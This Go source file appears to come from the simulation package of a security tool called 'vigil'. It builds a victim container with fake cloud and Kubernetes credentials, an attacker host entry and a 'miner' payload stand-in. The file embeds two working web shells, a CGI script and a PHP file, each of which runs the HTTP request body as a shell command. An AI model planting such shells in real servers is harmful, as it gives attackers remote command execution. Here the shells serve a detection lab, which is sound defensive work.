package simulate

import (
	"debug/elf"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// Paths inside the simulation containers.
const (
	// simDir holds vigil's own binary (bind-mounted) in both containers.
	simDir       = "/opt/vigil-sim"
	netscanPath  = simDir + "/netscan"  // the built-in scanner stand-in (vigil)
	attackerPath = simDir + "/attacker" // the attacker's servers (vigil)
	payloadPath  = simDir + "/payload"  // what the attacker serves as "miner" (busybox)
	webRoot      = "/var/www"
	webUID       = 33 // www-data
)

// findBusybox returns the host's statically linked busybox.
func findBusybox() (string, error) {
	for _, p := range []string{"/bin/busybox", "/usr/bin/busybox", "/usr/local/bin/busybox"} {
		if _, err := os.Stat(p); err != nil {
			continue
		}
		f, err := elf.Open(p)
		if err != nil {
			return "", fmt.Errorf("read %s as ELF: %w", p, err)
		}
		static := true
		for _, pr := range f.Progs {
			if pr.Type == elf.PT_INTERP {
				static = false
			}
		}
		f.Close()
		if static {
			return p, nil
		}
		return "", fmt.Errorf("%s is dynamically linked: the simulation's containers need a static busybox (apt-get install busybox-static)", p)
	}
	return "", fmt.Errorf("no busybox on this host: the simulation's containers are built from it (apt-get install busybox-static)")
}

// buildImage writes the simulation's image rootfs into root: busybox with
// every applet linked in /bin (so host tools bind-mounted at /usr never
// shadow them), /lib and /lib64 pointing into /usr for host tools, users
// root and www-data, the victim's web root with the web shell, a fake
// service-account token and fake cloud credentials.
func buildImage(root, busybox string) error {
	dirs := []struct {
		path string
		mode os.FileMode
	}{
		{"", 0o755}, {"bin", 0o755}, {"sbin", 0o755}, {"usr", 0o755}, {"etc", 0o755}, {"proc", 0o555},
		{"sys", 0o555}, {"dev", 0o755}, {"root", 0o700}, {"run", 0o755}, {"var", 0o755},
		{"var/run/secrets/kubernetes.io/serviceaccount", 0o755}, {"var/www", 0o755},
		{"var/www/cgi-bin", 0o755}, {"var/www/.aws", 0o700}, {"opt/vigil-sim", 0o755},
		{"tmp", 0o1777 | os.ModeSticky},
	}
	for _, d := range dirs {
		p := filepath.Join(root, d.path)
		if err := os.MkdirAll(p, 0o755); err != nil {
			return fmt.Errorf("create %s: %w", p, err)
		}
		if err := os.Chmod(p, d.mode); err != nil {
			return fmt.Errorf("chmod %s: %w", p, err)
		}
	}
	if err := copyFile(busybox, filepath.Join(root, "bin/busybox"), 0o755); err != nil {
		return err
	}
	out, err := exec.Command(busybox, "--list").Output()
	if err != nil {
		return fmt.Errorf("list busybox applets with %s --list: %w", busybox, err)
	}
	for _, applet := range strings.Fields(string(out)) {
		if applet == "busybox" || strings.Contains(applet, "/") {
			continue
		}
		if err := os.Symlink("busybox", filepath.Join(root, "bin", applet)); err != nil && !os.IsExist(err) {
			return fmt.Errorf("link applet %s: %w", applet, err)
		}
	}
	for _, l := range []string{"lib", "lib64", "libx32", "lib32"} {
		if _, err := os.Stat(filepath.Join("/usr", l)); err == nil {
			if err := os.Symlink("usr/"+l, filepath.Join(root, l)); err != nil {
				return fmt.Errorf("link /%s: %w", l, err)
			}
		}
	}
	files := []struct {
		name, content string
		mode          os.FileMode
		uid           int
	}{
		{"etc/passwd", "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/bin/false\n", 0o644, 0},
		{"etc/group", "root:x:0:\nwww-data:x:33:\nnogroup:x:65534:\n", 0o644, 0},
		{"etc/hosts", "127.0.0.1\tlocalhost\n" + attackerIP + "\tattacker\n" + victimIP + "\tvictim\n", 0o644, 0},
		{"etc/resolv.conf", "nameserver " + attackerIP + "\noptions timeout:2 attempts:1\n", 0o644, 0},
		{"etc/nsswitch.conf", "hosts: files dns\n", 0o644, 0},
		{"etc/os-release", "PRETTY_NAME=\"vigil simulation victim\"\nID=vigil-sim\n", 0o644, 0},
		// A fake token: the victim reads it, the stub API accepts it.
		{"var/run/secrets/kubernetes.io/serviceaccount/token", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ2aWdpbC1zaW11bGF0aW9uIn0.vigil-simulation-fake-token\n", 0o644, 0},
		{"var/run/secrets/kubernetes.io/serviceaccount/namespace", "vigil-simulation\n", 0o644, 0},
		{"var/www/.aws/credentials", "[default]\naws_access_key_id = AKIAVIGILSIMULATION0\naws_secret_access_key = vigil-simulation-fake-secret\n", 0o600, webUID},
		{"var/www/index.html", "<html><body>vigil simulation victim</body></html>\n", 0o644, 0},
		{"var/www/cgi-bin/shell.cgi", webShellCGI, 0o755, 0},
		{"var/www/shell.php", webShellPHP, 0o644, 0},
	}
	for _, f := range files {
		p := filepath.Join(root, f.name)
		if err := os.WriteFile(p, []byte(f.content), f.mode); err != nil {
			return fmt.Errorf("write %s: %w", p, err)
		}
		if err := os.Chmod(p, f.mode); err != nil {
			return fmt.Errorf("chmod %s: %w", p, err)
		}
		if f.uid != 0 {
			if err := os.Chown(p, f.uid, f.uid); err != nil {
				return fmt.Errorf("chown %s: %w", p, err)
			}
		}
	}
	if err := os.Chown(filepath.Join(root, "var/www/.aws"), webUID, webUID); err != nil {
		return fmt.Errorf("chown the victim's .aws directory: %w", err)
	}
	return nil
}

// webShellCGI is the busybox victim's web shell: a CGI script that runs
// the POSTed body with sh -c, as the web server's user.
const webShellCGI = `#!/bin/sh
# vigil simulation: a web shell (runs the request body as a shell command)
echo "Content-Type: text/plain"
echo
cmd=$(head -c "${CONTENT_LENGTH:-0}")
# A shell that runs every command as its own program, as a web server's
# shell usually does. busybox's own sh runs many applets (id, ls, find ...)
# inside its own process without exec, so it is the last resort.
if [ -z "$VIGIL_SIM_BUSYBOX_SH" ]; then
	for sh in /usr/bin/dash /usr/bin/bash; do
		if [ -x "$sh" ]; then exec "$sh" -c "$cmd" 2>&1; fi
	done
fi
exec sh -c "$cmd" 2>&1
`

// webShellPHP is the nginx + php-fpm victim's web shell.
const webShellPHP = `<?php
// vigil simulation: a web shell (runs the request body as a shell command)
header('Content-Type: text/plain');
system(file_get_contents('php://input') . ' 2>&1');
`

func copyFile(src, dst string, mode os.FileMode) error {
	in, err := os.Open(src)
	if err != nil {
		return fmt.Errorf("open %s: %w", src, err)
	}
	defer in.Close()
	out, err := os.OpenFile(dst, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, mode)
	if err != nil {
		return fmt.Errorf("create %s: %w", dst, err)
	}
	if _, err := io.Copy(out, in); err != nil {
		out.Close()
		return fmt.Errorf("copy %s to %s: %w", src, dst, err)
	}
	if err := out.Close(); err != nil {
		return fmt.Errorf("close %s: %w", dst, err)
	}
	return nil
}
